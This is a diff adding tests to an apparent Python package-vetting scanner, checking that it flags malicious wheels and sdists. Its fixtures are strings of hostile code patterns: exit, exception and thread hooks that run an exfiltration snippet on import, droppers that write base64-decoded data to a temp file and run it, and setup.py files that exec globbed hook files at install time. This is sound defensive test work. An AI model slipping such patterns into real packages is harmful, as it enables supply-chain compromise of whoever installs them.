@@ -12,7 +12,7 @@ from airlock.domain.requests import Outcome
 from airlock.imports.packages.analysis import scan_python
 from airlock.imports.packages.depends import lookalike_of
 from airlock.imports.packages.rules import PackageFinding, Severity
-from airlock.imports.packages.runfile import resolve_listed, run_files
+from airlock.imports.packages.runfile import resolve, resolve_listed, run_files
 from airlock.imports.packages.vet import vet
 from scripts.make_test_packages import sdist, wheel
 
@@ -314,3 +314,240 @@ def test_a_package_declaring_a_key_slip_holds() -> None:
     report = vet("helperkit-0.1-py3-none-any.whl", data)
     assert report.verdict is Outcome.HOLD, report.to_json()
     assert _worst(report.findings, "lookalike-dependency") is Severity.HIGH
+
+
+# --- an absolute path names no member, listed or not -------------------------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import glob\nfor f in glob.glob('/tmp/*.py'):\n    exec(open(f).read())\n",
+        "exec(open('/tmp/x.py').read())\n",
+    ],
+)
+def test_an_absolute_path_never_names_an_archive_member(source: str) -> None:
+    members = frozenset({"p-1/setup.py", "tmp/x.py", "p-1/tmp/x.py"})
+    (run,) = run_files(source)
+    if run.listed:
+        assert resolve_listed(run.target, "p-1/setup.py", members) == []
+    else:
+        assert resolve(run.target, "p-1/setup.py", members) is None
+
+
+def test_a_listing_and_a_fixed_path_name_the_same_members() -> None:
+    members = frozenset({"p-1/setup.py", "p-1/conf/a.py", "conf/b.py"})
+    (fixed,) = run_files("exec(open('conf/b.py').read())\n")
+    (listed,) = run_files(
+        "import glob\nfor f in glob.glob('conf/b.*'):\n    exec(open(f).read())\n"
+    )
+    assert resolve(fixed.target, "p-1/setup.py", members) == "conf/b.py"
+    assert resolve_listed(listed.target, "p-1/setup.py", members) == ["conf/b.py"]
+
+
+# --- hooks and objects handed on (ADR 0041) -----------------------------------------------
+
+OBJECTS = HOOKS + "import base64, subprocess, tempfile\nB = 'ZWNobyBoaQ=='\n\n"
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a bound method registered by a constructor that names no sink
+        (
+            "class T:\n    def __init__(self):\n        atexit.register(self.flush)\n"
+            "    def flush(self):\n    " + SEND + "\n_t = T()\n"
+        ),
+        # a bound method set as the exception hook by a method called on import
+        (
+            "class T:\n    def install(self):\n        sys.excepthook = self.hook\n"
+            "    def hook(self, *a):\n    " + SEND + "\nT().install()\n"
+        ),
+        # a bound method as a thread's target
+        (
+            "class T:\n    def __init__(self):\n"
+            "        threading.Thread(target=self.loop, daemon=True).start()\n"
+            "    def loop(self):\n    " + SEND + "\n_t = T()\n"
+        ),
+    ],
+)
+def test_a_bound_method_handed_to_the_interpreter_runs_when_it_is_handed(source: str) -> None:
+    found = scan_python("m/__init__.py", OBJECTS + source)
+    assert _worst(found, "exfiltration") is Severity.CRITICAL, found
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # an instance made by one function into a module global, used by another
+        (
+            "class C:\n    def go(self):\n    " + SEND + "\n_c = None\n\n"
+            "def _init():\n    global _c\n    _c = C()\n\n"
+            "def _run():\n    _c.go()\n\n_init()\n_run()\n"
+        ),
+        # an instance kept in an attribute by a constructor naming no sink
+        (
+            "class C:\n    def go(self):\n    " + SEND + "\n"
+            "class Holder:\n    def __init__(self):\n        self.c = C()\n"
+            "    def run(self):\n        self.c.go()\n\n_h = Holder()\n_h.run()\n"
+        ),
+    ],
+)
+def test_a_method_of_an_object_made_in_another_function_is_followed(source: str) -> None:
+    found = scan_python("m/__init__.py", OBJECTS + source)
+    assert _worst(found, "exfiltration") is Severity.CRITICAL, found
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # the run is walked before the write (another method): the path kept in self.path
+        (
+            "class D:\n    def __init__(self):\n"
+            "        self.path = os.path.join(tempfile.gettempdir(), 'u.py')\n"
+            "    def write(self):\n        with open(self.path, 'wb') as f:\n"
+            "            f.write(base64.b64decode(B))\n"
+            "    def run(self):\n        subprocess.Popen([sys.executable, self.path])\n"
+        ),
+        # two functions, the runner defined last
+        (
+            "def fetch(d):\n    open(os.path.join(d, 'x.sh'), 'wb').write(base64.b64decode(B))\n\n"
+            "def start(d):\n    subprocess.call(['sh', os.path.join(d, 'x.sh')])\n"
+        ),
+    ],
+)
+def test_a_dropped_path_run_by_code_walked_before_the_write_is_a_dropper(source: str) -> None:
+    found = scan_python("m/__init__.py", OBJECTS + source)
+    assert _worst(found, "dropper") is Severity.CRITICAL, found
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # plain data written to self.path, then run
+        (
+            "class D:\n    def __init__(self):\n"
+            "        self.path = os.path.join(tempfile.gettempdir(), 'u.py')\n"
+            "    def write(self):\n        with open(self.path, 'w') as f:\n"
+            "            f.write('print(1)')\n"
+            "    def run(self):\n        subprocess.Popen([sys.executable, self.path])\n"
+        ),
+        # a constructor that stores plain values: quiet
+        "class T:\n    def __init__(self):\n        self.n = 1\n\n_t = T()\n",
+        # a bound method hook that only logs
+        (
+            "class T:\n    def __init__(self):\n        atexit.register(self.close)\n"
+            "    def close(self):\n        print('bye')\n\n_t = T()\n"
+        ),
+    ],
+)
+def test_objects_and_hooks_that_do_nothing_stay_quiet(source: str) -> None:
+    found = scan_python("m/__init__.py", OBJECTS + source)
+    assert all(f.severity < Severity.HIGH for f in found), found
+
+
+ABROAD = "import atexit, os, urllib.request\n\n"
+
+
+@pytest.mark.parametrize(
+    ("init", "module"),
+    [
+        # a class of another module, made on import: its constructor registers a bound method
+        (
+            "from ._b import T\n_t = T()\n",
+            ABROAD + "class T:\n    def __init__(self):\n        atexit.register(self.flush)\n"
+            "    def flush(self):\n    " + SEND,
+        ),
+        # a factory of another module; a method called on what it returns
+        (
+            "from ._b import make\nmake().go()\n",
+            ABROAD + "class C:\n    def go(self):\n    " + SEND + "\ndef make():\n    return C()\n",
+        ),
+    ],
+)
+def test_an_object_of_another_module_made_on_import_is_followed(init: str, module: str) -> None:
+    files: dict[str, str | bytes] = {"o/__init__.py": init, "o/_b.py": module}
+    report = vet("o-1.0-py3-none-any.whl", wheel("o", "1.0", files))
+    assert report.verdict is Outcome.DENY, report.to_json()
+    assert _worst(report.findings, "exfiltration") is Severity.CRITICAL
+
+
+def test_an_object_of_another_module_that_only_logs_stays_quiet() -> None:
+    module = (
+        ABROAD + "class T:\n    def __init__(self):\n        atexit.register(self.close)\n"
+        "    def close(self):\n        print('bye')\n\n"
+        "def send(d):\n    urllib.request.urlopen('https://example.invalid/api', d)\n"
+    )
+    files: dict[str, str | bytes] = {
+        "o/__init__.py": "from ._b import T\n_t = T()\n",
+        "o/_b.py": module,
+    }
+    report = vet("o-1.0-py3-none-any.whl", wheel("o", "1.0", files))
+    assert report.verdict is Outcome.ALLOW, report.to_json()
+
+
+# --- a listing or a path kept in a settings module ----------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("runner", "settings", "payload"),
+    [
+        (
+            (
+                "import glob, os\nfrom .settings import PLUGINS\n"
+                "for f in glob.glob(os.path.join(PLUGINS, '*.txt')):\n    exec(open(f).read())\n"
+            ),
+            "import os\nPLUGINS = os.path.join(os.path.dirname(__file__), 'plugins')\n",
+            "k/plugins/a.txt",
+        ),
+        (
+            (
+                "import glob\nfrom . import settings\n"
+                "for f in glob.glob(settings.DATA + '/*.dat'):\n    exec(open(f).read())\n"
+            ),
+            "import os\nBASE = os.path.dirname(__file__)\nDATA = BASE + '/data'\n",
+            "k/data/a.dat",
+        ),
+        (
+            "from .settings import BOOT\nexec(open(BOOT).read())\n",
+            "import os\nBOOT = os.path.join(os.path.dirname(__file__), 'boot.dat')\n",
+            "k/boot.dat",
+        ),
+    ],
+)
+def test_a_path_taken_from_a_settings_module_is_followed(
+    runner: str, settings: str, payload: str
+) -> None:
+    files: dict[str, str | bytes] = {
+        "k/__init__.py": runner,
+        "k/settings.py": settings,
+        payload: BEACON,
+    }
+    report = vet("k-1.0-py3-none-any.whl", wheel("k", "1.0", files))
+    assert report.verdict is Outcome.DENY, report.to_json()
+    assert _worst(report.findings, "file-exec") is Severity.HIGH
+
+
+def test_a_setup_listing_from_a_build_settings_module_is_install_time_code() -> None:
+    files = {
+        "setup.py": "import glob\nfrom setuptools import setup\nfrom buildcfg import HOOKS\n"
+        "for f in glob.glob(HOOKS + '/*.py'):\n    exec(open(f).read())\nsetup()\n",
+        "buildcfg.py": "HOOKS = 'hooks'\n",
+        "pkg/__init__.py": "",
+        "hooks/a.py": BEACON,
+    }
+    report = vet("pkg-1.0.tar.gz", sdist("pkg", "1.0", files))
+    assert report.verdict is Outcome.DENY, report.to_json()
+    assert _worst(report.findings, "exfiltration") is Severity.CRITICAL
+
+
+def test_a_settings_listing_of_harmless_helpers_is_only_noted() -> None:
+    files = {
+        "setup.py": "import glob\nfrom setuptools import setup\nfrom buildcfg import HOOKS\n"
+        "for f in glob.glob(HOOKS + '/*.py'):\n    exec(open(f).read())\nsetup()\n",
+        "buildcfg.py": "HOOKS = 'hooks'\n",
+        "pkg/__init__.py": "",
+        "hooks/version.py": "VERSION = '1.0'\n",
+    }
+    report = vet("pkg-1.0.tar.gz", sdist("pkg", "1.0", files))
+    assert report.verdict is Outcome.ALLOW, report.to_json()
